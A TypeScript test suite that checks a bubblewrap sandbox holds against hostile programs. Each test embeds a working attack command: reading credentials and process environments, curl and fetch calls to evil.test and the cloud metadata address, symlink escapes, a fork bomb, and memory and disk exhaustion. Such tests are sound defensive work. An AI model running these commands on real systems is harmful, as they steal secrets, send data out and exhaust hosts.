/** Tests hostile programs in a sandbox, case by case, against the real bubblewrap of this machine. */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { asMounted } from './mounted-folder.fixture.ts';
import { createBubblewrapProvider } from './bubblewrap/bubblewrap.ts';
import { findHomePrograms } from './bubblewrap/home-programs.ts';
import type { CommandRequest, CommandResult, EgressRefusal, SandboxSpec } from './sandbox.ts';
import { TEST_LIMITS } from './sandbox.contract.ts';
import { writeSandboxFile } from './sandbox-files.ts';

const provider = createBubblewrapProvider();
const available = await provider.availability();
if (!available.ok) process.stderr.write(`bubblewrap tests are skipped: ${available.reason}. ${available.remedy}\n`);

describe.skipIf(!available.ok)('a hostile program in a sandbox', () => {
  let root: string;
  let folder: string;
  let server: Server;
  let port: number;
  let requests: string[];
  let refusals: EgressRefusal[];

  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'hostile-'));
    folder = join(root, 'run');
    await mkdir(folder);
    [requests, refusals] = [[], []];
    server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.end('reached\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });

  afterEach(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
    await rm(root, { recursive: true, force: true });
  });

  const open = (spec: Partial<SandboxSpec> = {}) =>
    provider.open({
      key: 'r-1/1/test',
      folder,
      readOnly: [],
      network: { allow: [] },
      onRefused: (refusal) => refusals.push(refusal),
      limits: TEST_LIMITS,
      ...spec,
    });
  const run = async (
    command: string,
    spec: Partial<SandboxSpec> = {},
    request: Partial<CommandRequest> = {},
  ): Promise<CommandResult> => {
    const sandbox = await open(spec);
    try {
      return await sandbox.run({ command, timeoutMs: 60_000, ...request });
    } finally {
      await sandbox.dispose();
    }
  };

  it('D01: finds no secret of the server in any environment or command line, and only declared names', async () => {
    vi.stubEnv('SANDBOX_CANARY', 'canary-4711');
    onTestFinished(() => void vi.unstubAllEnvs());
    const { stdout } = await run(
      `env; cat /proc/self/environ /proc/1/environ /proc/*/environ /proc/*/task/*/environ /proc/*/cmdline 2> /dev/null | tr '\\0' '\\n'`,
      { network: { allow: [`internal:127.0.0.1:${port}`] } },
    );
    expect(stdout).not.toContain('canary-4711');
    const names = new Set([...stdout.matchAll(/^([A-Za-z_]\w*)=/gm)].map(([, name]) => name ?? ''));
    const declared =
      'CI HOME LANG PATH TERM TMPDIR HTTP_PROXY HTTPS_PROXY NO_PROXY http_proxy https_proxy no_proxy NODE_USE_ENV_PROXY YARN_HTTP_PROXY YARN_HTTPS_PROXY YARN_ENABLE_SCRIPTS YARN_IGNORE_SCRIPTS npm_config_ignore_scripts pnpm_config_ignore_scripts npm_config_userconfig NODE_EXTRA_CA_CERTS RUSTUP_HOME RUSTUP_AUTO_INSTALL';
    const ofTheShell = 'PWD OLDPWD SHLVL _';
    expect([...names].filter((name) => !`${declared} ${ofTheShell}`.split(' ').includes(name))).toEqual([]);
    expect(names).toContain('HTTPS_PROXY');
  });

  describe('D02: the network', () => {
    const connectTo = (host: string, toPort: number) =>
      `node -e '
        const socket = require("net").connect({ host: ${JSON.stringify(host)}, port: ${toPort}, timeout: 3000 });
        const end = (text) => { console.log(text); process.exit(0); };
        socket.on("connect", () => end("CONNECTED")).on("error", (e) => end("failed " + e.code)).on("timeout", () => end("failed timeout"));
      '`;

    it('is not there, whatever is dialled', async () => {
      const targets: readonly [string, number][] = [
        ['1.1.1.1', 443],
        ['169.254.169.254', 80],
        ['127.0.0.1', port],
        ['::1', port],
        ['localhost', port],
        ['2606:4700:4700::1111', 443],
        ['10.0.0.1', 80],
      ];
      const { stdout } = await run(targets.map(([host, toPort]) => connectTo(host, toPort)).join('\n'));
      expect(stdout.trim().split('\n')).toHaveLength(targets.length);
      expect(stdout).not.toContain('CONNECTED');
      expect(requests).toEqual([]);
    });

    it('takes no name as data: neither a query of one’s own nor the resolver gets out', async () => {
      const query = `
        const socket = require("dgram").createSocket("udp4");
        const query = Buffer.from("0001010000010000000000000763616e6172790465766c6c0474657374000001 0001".replace(/ /g, ""), "hex");
        socket.on("message", () => console.log("ANSWERED")).on("error", (error) => console.log("failed", error.code));
        socket.send(query, 53, "1.1.1.1", (error) => { console.log(error ? "failed " + error.code : "SENT"); socket.close(); });
        require("dns").lookup("canary.evil.test", (error) => console.log(error ? "failed " + error.code : "RESOLVED"));
      `;
      const { stdout } = await run(`node -e '${query}'; cat /etc/resolv.conf; getent hosts canary.evil.test`);
      expect(stdout).toMatch(/^(failed \w+\n)+$/);
    });

    it('has no socket of the host but the one of the egress proxy', async () => {
      const path = join(root, 'server.sock');
      const listener = createTcpServer();
      await new Promise<void>((resolve) => listener.listen(path, resolve));
      const { stdout } = await run(
        // A mount shows in its own status alone, not in what find reads from the folder.
        `{ cut -d" " -f5 /proc/self/mountinfo; find / -path /proc -prune -o -type s -print 2> /dev/null; } | while read -r f; do if [ -S "$f" ]; then echo "$f"; fi; done
         ls ${path} 2> /dev/null; grep -o "/[^ ]*$" /proc/net/unix`,
      );
      await new Promise((resolve) => listener.close(resolve));
      expect(new Set(stdout.trim().split('\n'))).toEqual(new Set(['/opt/egress/proxy.sock']));
    });

    it('leads through the proxy to what is listed and nowhere else; each refusal is told', async () => {
      const fetched = (url: string) =>
        `node -e 'fetch("${url}").then(async (r) => console.log(r.status, (await r.text()).trim())).catch((e) => console.log("failed", e.cause?.message ?? e.message))'`;
      const { stdout, stderr } = await run(
        [
          fetched(`http://127.0.0.1:${port}/fetched`),
          `curl -s http://127.0.0.1:${port}/curled`,
          fetched('http://evil.test/'),
          `curl -s http://evil.test/`,
          'curl -sS https://evil.test/',
          `curl -s --resolve allowed.test:80:127.0.0.1 -H 'Host: evil.test' http://127.0.0.1:${port}/fronted`,
        ].join('\n'),
        { network: { allow: [`internal:127.0.0.1:${port}`] } },
      );
      expect(requests).toEqual(['/fetched', '/curled']);
      expect(stdout).toContain('200 reached\nreached\n');
      expect(stdout).toContain('Refused: evil.test is not on the allow-list of this sandbox.');
      expect(stderr).toContain('403');
      expect(refusals.map(({ reason, host, port: at }) => [reason, host, at])).toEqual([
        ['host', 'evil.test', 80],
        ['host', 'evil.test', 443],
        ['fronting', '127.0.0.1', port],
      ]);
    });

    it('is not there for commands that need none, and programs inside reach each other', async () => {
      const sandbox = await open({ network: { allow: [`internal:127.0.0.1:${port}`] } });
      const get = `curl -s --max-time 5 http://127.0.0.1:${port}/ || echo none`;
      expect((await sandbox.run({ command: get, timeoutMs: 20_000, offline: true })).stdout).toBe('none\n');
      await writeSandboxFile(sandbox, 'a.txt', 'written');
      expect((await sandbox.run({ command: get, timeoutMs: 20_000 })).stdout).toBe('reached\n');
      await sandbox.dispose();

      const inner = `node -e '
        const server = require("http").createServer((_, r) => r.end("inner")).listen(0, "127.0.0.1", async () => {
          console.log(await (await fetch("http://localhost:" + server.address().port)).text());
          server.close();
        });'`;
      expect((await run(inner)).stdout).toBe('inner\n');
    });

    it('goes with the sandbox: its socket and its connections', async () => {
      const temporary = join(root, 'temporary');
      await mkdir(temporary);
      vi.stubEnv('TMPDIR', temporary);
      onTestFinished(() => void vi.unstubAllEnvs());
      const sandbox = await open();
      const running = sandbox.run({ command: 'touch begun; sleep 60', timeoutMs: 60_000 });
      await expect.poll(() => existsSync(join(folder, 'begun'))).toBe(true);
      expect(await readdir(temporary)).toHaveLength(1);
      await sandbox.dispose();
      expect((await running).exitCode).toBeNull();
      expect(await readdir(temporary)).toEqual([]);
    });
  });

  it('D04: sees no secret file, no other run, no database, and writes nothing outside its folder', async () => {
    await writeFile(join(root, 'orchestrator.db'), 'canary-4711');
    await mkdir(join(root, 'other-run'));
    await writeFile(join(root, 'other-run/secret.txt'), 'canary-4711');
    const code = fileURLToPath(new URL('./bubblewrap/bubblewrap.ts', import.meta.url));
    const hidden = [
      '/etc/shadow',
      '~root/.ssh',
      '~/.ssh',
      // Of the server's home folder, programs alone are shown.
      '~root/.config',
      '~root/.npmrc',
      '~root/.cargo/credentials.toml',
      root,
      join(root, 'orchestrator.db'),
      code,
      '/proc/1/root/etc/shadow',
    ];
    const seen = hidden.map(
      (path) => `if cat ${path} > /dev/null 2>&1 || ls -d ${path} > /dev/null 2>&1; then echo "SEEN ${path}"; fi`,
    );
    const targets = [
      '/usr/x',
      '/usr/bin/sh',
      '/etc/passwd',
      '/proc/sys/kernel/core_pattern',
      '/proc/sysrq-trigger',
      '/opt/egress/relay.cjs',
      '/opt/x',
      code,
    ];
    const written = targets.map((path) => `if (echo x >> ${path}) 2> /dev/null; then echo "WRITTEN ${path}"; fi`);
    const { stdout } = await run([...seen, ...written].join('\n'));
    expect(stdout).toBe('');
    const shown = (await run('ls -A ~root 2> /dev/null')).stdout.split('\n').filter((name) => name !== '');
    expect(shown.filter((name) => !programsOfHome().has(name))).toEqual([]);
    expect((await run('cat ../other-run/secret.txt ../orchestrator.db; ls ..')).stdout).not.toContain('canary');
  });

  it('C02 D04: makes no file on the host by a link that it leaves where a later sandbox mounts something', async () => {
    const home = join(root, 'home');
    await mkdir(home);
    const files = ['.npmrc', '.yarnrc', '.config'];
    const links = files.map((name) => `ln -s /oldroot${root}/created${name} ~/${name}; ln -s ~/${name} .`);
    await run(links.join('\n'), { home, network: 'none' });
    const { exitCode, stdout } = await run('cut -d" " -f5 /proc/self/mountinfo', {
      home,
      network: { allow: [`internal:127.0.0.1:${port}`] },
    });
    expect(await readdir(root)).toEqual(['home', 'run']);
    expect(exitCode).toBe(0);
    // Nor is any other mount's target in what a sandbox writes.
    expect(stdout.split('\n').filter((mount) => /^\/(home\/agent|workspace)\//.test(mount))).toEqual([]);
  });

  it('runs no install script where it has a network, although the project’s own settings turn them on', async () => {
    await writeFile(join(folder, '.npmrc'), 'ignore-scripts=false\n');
    const scripts = { preinstall: 'echo ran > ran.txt' };
    await writeFile(join(folder, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts }));
    const network = { allow: [`internal:127.0.0.1:${port}`] };
    const { exitCode } = await run('npm install --offline --no-package-lock', { network });
    expect(exitCode).toBe(0);
    expect(existsSync(join(folder, 'ran.txt'))).toBe(false);
    const { stdout } = await run('env', { network });
    expect(stdout).toContain('pnpm_config_ignore_scripts=true\n');
    expect(stdout).toContain('YARN_IGNORE_SCRIPTS=true\n');
    expect(stdout).toContain('YARN_ENABLE_SCRIPTS=false\n');
  });

  it('is refused sockets that no network namespace holds, rings that make sockets unseen, and keyrings', async () => {
    const program = `
import ctypes, errno, platform, socket
def answer(act):
    try:
        return act() or 'done'
    except OSError as error:
        return errno.errorcode[error.errno]
for name in ('AF_UNIX', 'AF_INET', 'AF_INET6', 'AF_VSOCK', 'AF_ALG', 'AF_PACKET'):
    kind = socket.SOCK_SEQPACKET if name == 'AF_ALG' else socket.SOCK_STREAM
    print(name, answer(lambda: socket.socket(getattr(socket, name), kind).close()))
libc = ctypes.CDLL(None, use_errno=True)
def call(number):
    if libc.syscall(number, 0, 0, 0, 0, 0) < 0: raise OSError(ctypes.get_errno(), '')
x64 = platform.machine() == 'x86_64'
for name, number in { 'io_uring_setup': 425, 'add_key': 248 if x64 else 217, 'bpf': 321 if x64 else 280 }.items():
    print(name, answer(lambda: call(number)))
`;
    const { stdout, stderr } = await run('python3 -', {}, { stdin: program });
    expect(stderr).toBe('');
    expect(stdout.trim().split('\n')).toEqual([
      'AF_UNIX done',
      'AF_INET done',
      'AF_INET6 done',
      'AF_VSOCK EAFNOSUPPORT',
      'AF_ALG EAFNOSUPPORT',
      'AF_PACKET EAFNOSUPPORT',
      'io_uring_setup ENOSYS',
      'add_key EPERM',
      'bpf EPERM',
    ]);
  });

  it('is refused memory that no process holds: anonymous files and large segments of System V', async () => {
    const program = `
import ctypes, errno, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def told(result): return 'done' if result >= 0 else errno.errorcode[ctypes.get_errno()]
print('shmget 56', told(libc.shmget(0, ctypes.c_size_t(56), 0o1600)))
print('shmget 64 MB', told(libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)))
print('semget', told(libc.semget(0, 1, 0o1600)))
print('msgget', told(libc.msgget(0, 0o1600)))
try: print('memfd_create', os.memfd_create('x') and 'done')
except OSError as error: print('memfd_create', errno.errorcode[error.errno])
`;
    const { stdout, stderr } = await run('python3 -', {}, { stdin: program });
    expect(stderr).toBe('');
    expect(stdout.trim().split('\n')).toEqual([
      'shmget 56 done',
      'shmget 64 MB ENOSPC',
      'semget ENOSPC',
      'msgget ENOSPC',
      'memfd_create ENOSYS',
    ]);
  });

  it('reads nothing of the kernel’s keys, timers and memory map, nor the folders of the host', async () => {
    const { stdout } = await run(
      'for file in keys timer_list vmallocinfo kcore sched_debug; do cat /proc/$file 2> /dev/null | head -c 100; done; tr "\\0" "\\n" < /proc/1/cmdline | grep -c "ro-[b]ind"; true',
    );
    expect(stdout).toBe('0\n');
  });

  describe('D06: taking all there is', () => {
    const limits = {
      ...TEST_LIMITS,
      processes: 256,
      memoryBytes: 2 * 1024 ** 3,
      fileBytes: 1024 ** 4,
      diskBytes: 300 * 1024 ** 2,
    };

    it.each([
      // `exec`, since the shell itself can start nothing any more.
      ['a fork bomb', 'bash -c ":(){ :|:& };:"; exec sleep 60', 4_000, /time limit|256/],
      [
        '64 GB of memory',
        `python3 -c 'a = []\nwhile True: a.append(bytearray(b"x") * (64 << 20))'`,
        60_000,
        / MB of memory; the limit is 2,048 MB/,
      ],
      [
        'memory in many processes',
        `for i in 1 2 3 4 5 6; do python3 -c 'import time; a = bytearray(b"x") * (500 << 20); time.sleep(60)' & done; wait`,
        60_000,
        / MB of memory; the limit is 2,048 MB/,
      ],
      [
        'memory in files without a name',
        `python3 -c 'import os, time
a = bytearray(b"x") * (600 << 20)
for n in range(35): os.write(os.open("/tmp", os.O_TMPFILE | os.O_RDWR), b"x" * (50 << 20))
time.sleep(60)'`,
        60_000,
        / MB of memory; the limit is 2,048 MB/,
      ],
      [
        'memory in /tmp',
        `python3 -c 'import time; a = bytearray(b"x") * (1200 << 20); time.sleep(60)' & head -c 1500000000 /dev/zero > /tmp/x; wait`,
        60_000,
        / MB of memory; the limit is 2,048 MB/,
      ],
      ['output without end', 'yes', 60_000, /more than 64 MB of output/],
      [
        '100 GB of disk in one file',
        'head -c 100000000000 /dev/zero > big; sleep 60',
        60_000,
        /hold [\d,]+ MB; the limit is 300 MB/,
      ],
      [
        '100 GB of disk in many files',
        'i=0; while head -c 20000000 /dev/zero > "$HOME/$i"; do i=$((i+1)); done; sleep 60',
        60_000,
        /hold [\d,]+ MB; the limit is 300 MB/,
      ],
      [
        '750 MB of disk in open files that were deleted',
        `python3 -c 'import os, time
for n in range(3):
  file = os.open(str(n), os.O_CREAT | os.O_RDWR)
  os.unlink(str(n))
  for _ in range(250): os.write(file, b"x" * (1 << 20))
  os.dup2(file, 100 + n)
time.sleep(60)'`,
        60_000,
        /hold [\d,]+ MB; the limit is 300 MB/,
      ],
      [
        '750 MB of disk in deleted files that nothing but a page of memory holds',
        `python3 -c 'import mmap, os, time
pages = []
for n in range(3):
  file = os.open(str(n), os.O_CREAT | os.O_RDWR)
  for _ in range(250): os.write(file, b"x" * (1 << 20))
  pages.append(mmap.mmap(file, 4096))
  os.unlink(str(n))
  os.close(file)
time.sleep(60)'`,
        60_000,
        /the limit is 300 MB/,
      ],
      [
        '750 MB of disk in deleted files that lie in the queue of a socket',
        `python3 -c 'import os, socket, time
a, b = socket.socketpair()
for n in range(3):
  file = os.open(str(n), os.O_CREAT | os.O_RDWR)
  os.unlink(str(n))
  for _ in range(250): os.write(file, b"x" * (1 << 20))
  socket.send_fds(a, [b"."], [file])
  os.close(file)
time.sleep(60)'`,
        60_000,
        /the limit is 300 MB/,
      ],
      [
        'sleeping for ever, deaf to SIGTERM',
        `trap '' TERM HUP INT; (setsid sh -c "trap '' TERM; sleep 600" &); while :; do sleep 600; done`,
        1_500,
        /time limit of 1500 ms/,
      ],
    ])('ends with %s; the server goes on meanwhile and nothing is left', async (_what, command, timeoutMs, why) => {
      const home = join(root, 'home');
      await mkdir(home);
      const turns = { answered: 0, going: true };
      const asking = (async () => {
        while (turns.going) {
          await (await fetch(`http://127.0.0.1:${port}/healthz`)).text();
          turns.answered += 1;
        }
      })();
      const result = await run(command, { limits, home }, { timeoutMs });
      turns.going = false;
      await asking;
      expect(result.exitCode).toBeNull();
      expect(result.stderr.slice(-300)).toMatch(why);
      // It was served all the time: a server that stalls answers once or twice.
      expect(turns.answered).toBeGreaterThan(20);
      await expect.poll(() => processesIn(folder)).toEqual([]);
      // Nothing keeps on writing either.
      expect(await bytesIn([folder, home])).toBeLessThan(8 * 1024 ** 3);
    });

    it('counts what processes share once', async () => {
      const shared = `import mmap, os, time
m = mmap.mmap(-1, 600 << 20)
m.write(b"x" * (600 << 20))
a = bytearray(b"x") * (600 << 20)
for n in range(4):
  if os.fork() == 0:
    sum(m[i] + a[i] for i in range(0, 600 << 20, 4096))
    time.sleep(1)
    os._exit(0)
for n in range(4): os.wait()
print("done")`;
      expect(await run(`python3 -c '${shared}'`, { limits })).toMatchObject({ stdout: 'done\n', exitCode: 0 });
    });

    it('ends a daemon with the command that started it', async () => {
      const daemon = `setsid nohup sh -c 'while :; do echo tick >> ticks; sleep 0.02; done' > /dev/null 2>&1 & while [ ! -s ticks ]; do sleep 0.02; done`;
      expect((await run(daemon, { limits })).exitCode).toBe(0);
      // bwrap tells how the command ended a moment before the kernel has ended everything else in its namespace.
      await expect.poll(() => processesIn(folder)).toEqual([]);
    });

    it('lets a sandbox that is full be tidied up', async () => {
      const sandbox = await open({ limits });
      const full = await sandbox.run({ command: 'head -c 100000000000 /dev/zero > big', timeoutMs: 60_000 });
      expect(full.exitCode).toBeNull();
      expect(full.stderr).toContain('the limit is 300 MB');
      expect(existsSync(join(folder, 'big'))).toBe(true);
      expect(await sandbox.run({ command: 'rm big && echo tidy', timeoutMs: 20_000 })).toMatchObject({
        stdout: 'tidy\n',
        exitCode: 0,
      });
      expect(await sandbox.run({ command: 'sleep 1; echo works', timeoutMs: 20_000 })).toMatchObject({
        stdout: 'works\n',
        exitCode: 0,
      });
      await sandbox.dispose();
    });
  });
});

/** Names at the first level of the home folder that installed programs use. */
function programsOfHome(): ReadonlySet<string | undefined> {
  const { folders } = findHomePrograms({ isTaken: () => false });
  return new Set(folders.map((program) => relative(homedir(), program).split('/')[0]));
}

/** Processes of this machine that have the folder as their `/workspace`. */
async function processesIn(folder: string): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const found = await Promise.all(
    pids.map(async (pid) => {
      const mounts = await readFile(`/proc/${pid}/mountinfo`, 'utf8').catch(() => '');
      return mounts.split('\n').some((line) => line.includes(`${asMounted(folder)} /workspace `)) ? pid : null;
    }),
  );
  return found.filter((pid) => pid !== null);
}

async function bytesIn(folders: readonly string[]): Promise<number> {
  const { execFileSync } = await import('node:child_process');
  const lines = execFileSync('du', ['-sk', ...folders], { encoding: 'utf8' })
    .trim()
    .split('\n');
  return lines.reduce((sum, line) => sum + Number.parseInt(line, 10) * 1024, 0);
}
